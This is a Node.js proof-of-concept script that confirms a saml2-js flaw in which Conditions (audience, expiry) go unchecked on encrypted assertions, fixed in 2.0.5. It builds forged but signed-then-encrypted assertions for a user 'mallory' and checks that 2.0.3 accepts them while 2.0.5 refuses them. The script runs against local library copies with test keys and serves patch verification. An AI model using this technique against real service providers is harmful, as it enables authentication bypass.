// Confirms saml2-js "conditions not enforced on encrypted assertions" (fixed in 2.0.5, PR #190,
// commits cf99d1e + a7db222) at the library level. usage: node confirm.js LAB_ROOT
//
// Part 1, the fix's own fixtures (fixtures/, copied from github:Clever/saml2 at a7db222/cf99d1e,
// with the test keys test*.pem/test*.crt): an assertion with Conditions NotBefore=2054 (future),
// encrypted aes128-cbc + rsa-oaep-mgf1p, (a) signed then encrypted, (b) encrypted then the
// Response signed, (c) unsigned (ignore_signature), exactly as the fix's tests call post_assert.
// Part 2, the same class with keys we generate: a signed assertion (xmlsec1, rsa-sha256,
// exc-c14n, enveloped) with a wrong Audience / an expired Conditions NotOnOrAfter, encrypted
// (aes256-cbc and aes128-cbc, rsa-oaep-mgf1p, node crypto) to the SP certificate, with a
// plaintext twin of each (which 2.0.3 already refuses: the bypass is encryption-only) and a
// valid encrypted positive control.
'use strict';
const path = require('path'), fs = require('fs'), os = require('os'), cp = require('child_process'), crypto = require('crypto');
const root = process.argv[2];
const VULN = 'saml2-js-2.0.3', FIXED = 'saml2-js-2.0.5';
const here = __dirname, fx = (f) => fs.readFileSync(path.join(here, 'fixtures', f), 'utf8');
const lib = (rel) => require(path.join(root, rel, 'node_modules', 'saml2-js'));

function postAssert(rel, spOptions, idpOptions, requestOptions) {
  const saml2 = lib(rel);
  const sp = new saml2.ServiceProvider(spOptions), idp = new saml2.IdentityProvider(idpOptions);
  return new Promise((resolve) => sp.post_assert(idp, requestOptions, (err, r) =>
    resolve(err ? { accepted: false, error: err.message } : { accepted: true, nameID: r.user && r.user.name_id })));
}
const show = (r) => r.accepted ? `ACCEPTED name_id=${r.nameID}` : `REFUSED ${r.error}`;

(async () => {
  let confirmed = 0, fixedFooled = 0, controlsOk = true;
  const judge = async (name, spO, idpO, reqO, expectVulnAccepts = true) => {
    const v = await postAssert(VULN, spO, idpO, JSON.parse(JSON.stringify(reqO)));
    const f = await postAssert(FIXED, spO, idpO, JSON.parse(JSON.stringify(reqO)));
    console.log(`${VULN.padEnd(15)} ${name}: ${show(v)}`);
    console.log(`${FIXED.padEnd(15)} ${name}: ${show(f)}`);
    return [v, f];
  };

  // ---- Part 1: the fix commit's fixtures, with the options of its tests ----
  const spT = { entity_id: 'https://sp.example.com/metadata.xml', private_key: fx('test2.pem'), alt_private_keys: fx('test.pem'),
    certificate: fx('test2.crt'), alt_certs: fx('test.crt'), assert_endpoint: 'https://sp.example.com/assert' };
  const idpT = { sso_login_url: 'https://idp.example.com/login', sso_logout_url: 'https://idp.example.com/logout', certificates: [fx('test.crt'), fx('test2.crt')] };
  for (const [f, extra] of [
    ['response_notbefore_future_signed_then_encrypted_base64.xml', {}],
    ['response_notbefore_future_encrypted_then_signed_base64.xml', {}],
    ['response_notbefore_future_encrypted.xml', { ignore_signature: true, allow_unencrypted_assertion: true }]]) {
    const [v, x] = await judge(`fixture ${f} (NotBefore 2054, aes128-cbc + rsa-oaep-mgf1p)`, spT, idpT,
      { require_session_index: false, ...extra, request_body: { SAMLResponse: fx(f).trim() } });
    if (v.accepted) confirmed++;
    if (x.accepted) fixedFooled++;
  }

  // ---- Part 2: our own keys ----
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'confirm-saml2js-'));
  const t = (f) => path.join(tmp, f);
  for (const who of ['idp', 'sp']) cp.execFileSync('openssl', ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-sha256', '-days', '2',
    '-subj', `/CN=confirm-${who}`, '-keyout', t(`${who}.key`), '-out', t(`${who}.crt`)], { stdio: 'ignore' });
  const IDP = 'https://idp.confirm.test/idp', SPID = 'http://127.0.0.1:1/metadata', ACS = 'http://127.0.0.1:1/acs';
  const now = Date.now(), iso = (ms) => new Date(ms).toISOString().replace(/\.\d+Z$/, 'Z');
  const assertion = (id, o) => `<saml:Assertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="${id}" Version="2.0" IssueInstant="${iso(now)}"><saml:Issuer>${IDP}</saml:Issuer><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo><ds:CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/><ds:SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/><ds:Reference URI="#${id}"><ds:Transforms><ds:Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/><ds:Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></ds:Transforms><ds:DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/><ds:DigestValue/></ds:Reference></ds:SignedInfo><ds:SignatureValue/><ds:KeyInfo><ds:X509Data/></ds:KeyInfo></ds:Signature><saml:Subject><saml:NameID Format="urn:oasis:names:tc:SAML:2.0:nameid-format:persistent">${o.nameID}</saml:NameID><saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData NotOnOrAfter="${iso(now + 300e3)}" Recipient="${ACS}" InResponseTo="_req1"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore="${iso(o.notBefore)}" NotOnOrAfter="${iso(o.notOnOrAfter)}"><saml:AudienceRestriction><saml:Audience>${o.audience}</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant="${iso(now)}" SessionIndex="_s1"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement></saml:Assertion>`;
  let n = 0;
  const signAssertion = (xml) => {
    const f = t(`a${n++}.xml`); fs.writeFileSync(f, xml);
    return cp.execFileSync('xmlsec1', ['--sign', '--privkey-pem', `${t('idp.key')},${t('idp.crt')}`, '--id-attr:ID', 'urn:oasis:names:tc:SAML:2.0:assertion:Assertion', f]).toString().replace(/^<\?xml[^>]*\?>\s*/, '');
  };
  const spCertPem = fs.readFileSync(t('sp.crt'), 'utf8');
  const encrypt = (xml, cipher) => {
    const [uri, alg, len] = cipher === 'aes128-cbc' ? ['http://www.w3.org/2001/04/xmlenc#aes128-cbc', 'aes-128-cbc', 16] : ['http://www.w3.org/2001/04/xmlenc#aes256-cbc', 'aes-256-cbc', 32];
    const key = crypto.randomBytes(len), iv = crypto.randomBytes(16), c = crypto.createCipheriv(alg, key, iv);
    const ct = Buffer.concat([iv, c.update(xml, 'utf8'), c.final()]).toString('base64');
    const ek = crypto.publicEncrypt({ key: spCertPem, padding: crypto.constants.RSA_PKCS1_OAEP_PADDING, oaepHash: 'sha1' }, key).toString('base64');
    return `<saml:EncryptedAssertion xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" Type="http://www.w3.org/2001/04/xmlenc#Element"><xenc:EncryptionMethod Algorithm="${uri}"/><ds:KeyInfo xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><xenc:EncryptedKey><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"><ds:DigestMethod Algorithm="http://www.w3.org/2000/09/xmldsig#sha1"/></xenc:EncryptionMethod><xenc:CipherData><xenc:CipherValue>${ek}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo><xenc:CipherData><xenc:CipherValue>${ct}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>`;
  };
  const response = (inner) => Buffer.from(`<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_r${n++}" Version="2.0" IssueInstant="${iso(now)}" Destination="${ACS}" InResponseTo="_req1"><saml:Issuer>${IDP}</saml:Issuer><samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:Status>${inner}</samlp:Response>`).toString('base64');
  // the lab wrapper's configuration: allow_unencrypted_assertion true, audience = entity_id, skew 1 s
  const spO = { entity_id: SPID, private_key: fs.readFileSync(t('sp.key'), 'utf8'), certificate: spCertPem, assert_endpoint: ACS, allow_unencrypted_assertion: true };
  const idpO = { sso_login_url: 'https://idp.confirm.test/sso', sso_logout_url: 'https://idp.confirm.test/slo', certificates: [fs.readFileSync(t('idp.crt'), 'utf8')] };
  const good = { nameID: 'alice', notBefore: now - 60e3, notOnOrAfter: now + 300e3, audience: SPID };
  const defects = {
    'Audience = another SP': { ...good, nameID: 'mallory', audience: 'https://other-sp.example/metadata' },
    'Conditions NotOnOrAfter 1 h ago': { ...good, nameID: 'mallory', notBefore: now - 7200e3, notOnOrAfter: now - 3600e3 },
  };
  for (const cipher of ['aes256-cbc', 'aes128-cbc']) {
    const [v, f] = await judge(`control: valid signed assertion, encrypted ${cipher} + rsa-oaep-mgf1p`, spO, idpO,
      { request_body: { SAMLResponse: response(encrypt(signAssertion(assertion('_ok' + n, good)), cipher)) } });
    if (!(v.accepted && f.accepted)) controlsOk = false;
  }
  for (const [name, o] of Object.entries(defects)) {
    const signed = signAssertion(assertion('_bad' + n, o));
    const [pv, pf] = await judge(`plaintext twin, ${name}`, spO, idpO, { request_body: { SAMLResponse: response(signed) } });
    for (const cipher of ['aes256-cbc', 'aes128-cbc']) {
      const [v, f] = await judge(`${name}, signed assertion encrypted ${cipher} + rsa-oaep-mgf1p`, spO, idpO,
        { request_body: { SAMLResponse: response(encrypt(signed, cipher)) } });
      if (v.accepted && v.nameID === 'mallory') confirmed++;
      if (f.accepted) fixedFooled++;
    }
  }
  fs.rmSync(tmp, { recursive: true, force: true });
  if (!controlsOk) { console.log('positive control failed: the pair says nothing'); process.exit(1); }
  console.log(`vulnerable fooled by ${confirmed}/7 messages; fixed fooled by ${fixedFooled}`);
  process.exit(confirmed > 0 && fixedFooled === 0 ? 0 : 1);
})();
